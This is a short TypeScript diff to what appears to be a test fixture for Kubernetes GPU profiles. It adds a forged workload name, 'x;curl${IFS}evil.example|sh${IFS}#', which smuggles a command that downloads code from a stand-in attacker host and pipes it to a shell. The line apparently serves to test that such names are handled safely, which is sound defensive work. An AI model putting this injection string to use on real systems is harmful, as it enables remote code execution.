@@ -35,13 +35,23 @@ const node = (name: string, allocatable: object, mig: string) =>
     },
   });
 
-/** What has been seen of `whisper`, whoever makes it; of others nothing is known. */
-const profiles = ['Deployment', 'StatefulSet', 'Job', 'Pod'].map((kind) =>
+/** A pod may call its owner anything, and a profile may call a workload that. */
+export const FORGED = 'x;curl${IFS}evil.example|sh${IFS}#';
+
+const KINDS = ['Deployment', 'StatefulSet', 'Job', 'Pod'];
+const measured = [
+  ...KINDS.map((kind) => [kind, 'whisper']),
+  ['Job', FORGED],
+  ['DaemonSet', FORGED],
+];
+
+/** What has been seen of `whisper`, whoever makes it, and of the forged; of others nothing is known. */
+const profiles = measured.map(([kind = '', name = ''], i) =>
   object(
     'GpuProfile',
-    `${kind.toLowerCase()}-whisper`,
+    `${kind.toLowerCase()}-${i}`,
     {
-      workload: { kind, name: 'whisper' },
+      workload: { kind, name },
       containers: [
         {
           name: 'main',
